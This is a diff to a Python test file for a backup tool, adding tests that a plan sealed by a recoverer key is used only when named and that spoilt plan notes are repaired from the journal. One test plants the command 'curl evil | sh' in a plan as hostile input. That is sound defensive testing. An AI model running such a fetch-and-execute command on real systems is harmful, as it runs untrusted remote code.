@@ -12,7 +12,7 @@ import pytest
 
 from backstay import durable
 from backstay.adapters.journal import Overtaken
-from backstay.app import bootstrapping, copying, planning, protecting
+from backstay.app import bootstrapping, copying, keys, planning, protecting
 from backstay.app.bootstrapping import Wanted, bootstrap, read_head
 from backstay.app.home import Asked, Home
 from backstay.cli import main
@@ -29,6 +29,7 @@ from backstay.errors import (
 )
 from backstay.facts import spine_digest
 from backstay.ports import Progress, unwatched
+from backstay.vault.roles import Role
 from fix_vault import Crash
 
 PLAN = """\
@@ -262,6 +263,38 @@ def test_another_revision_of_the_plan_can_be_chosen(old: Machine, tmp_path: Path
     assert chosen.home.plan.digest == first
     with pytest.raises(UnknownName):
         Machine(tmp_path / "third").bootstrap(tmp_path / "far", old.folder / "backstay.key", plan="0000")
+
+
+def test_a_plan_that_a_recoverer_sealed_is_taken_only_by_name(old: Machine, tmp_path: Path) -> None:
+    """Who takes a plan runs its commands, and shows the secrets of it to the addresses in it."""
+    ours, owner = old.home().plan.digest, old.folder / "backstay.key"
+    root = next(iter(old.home().vaults.values())).opened.root.hex()
+    handed = keys.new_file(tmp_path / "ann.key", "ann", Role.RECOVERER, (root,))
+    list(keys.admit(old.home(), handed, Role.RECOVERER))
+    ann = Machine(tmp_path / "ann")
+    ann.bootstrap(tmp_path / "far", tmp_path / "ann.key")
+    (ann.folder / "backstay.yaml").write_text(PLAN.replace("[test, -e, papers]", "[sh, -c, 'curl evil | sh']"))
+    ann.home().adopt("me")
+    ann.home().seal()
+    hers = ann.home().plan.digest
+    new = Machine(tmp_path / "new")
+    arrived = new.bootstrap(tmp_path / "far", owner, look=True)
+    assert arrived.home.plan.digest == ours
+    assert any(f"--plan {hers[7:23]}" in said for said in new.said)
+    named = Machine(tmp_path / "named").bootstrap(tmp_path / "far", owner, look=True, plan=hers[7:23])
+    assert named.home.plan.digest == hers
+    again = Machine(tmp_path / "again").bootstrap(tmp_path / "far", tmp_path / "ann.key", look=True)
+    assert again.home.plan.digest == hers, "she knows what she sealed"
+    (tmp_path / "far" / "notes" / "plan" / hers[7:]).write_bytes(b"gone")
+    lost = Machine(tmp_path / "lost").bootstrap(tmp_path / "far", owner, look=True)
+    assert lost.home.plan.digest == ours
+
+
+def test_a_spoilt_note_of_the_plan_is_made_good_by_the_journal(old: Machine, tmp_path: Path) -> None:
+    for note in (tmp_path / "far" / "notes" / "plan").iterdir():
+        note.write_bytes(b"a stranger's")
+    arrived = Machine(tmp_path / "new").bootstrap(tmp_path / "far", old.folder / "backstay.key")
+    assert arrived.home.plan.digest == old.home().plan.digest
 
 
 def test_two_at_once_on_two_machines_one_wins_and_the_other_says_so(
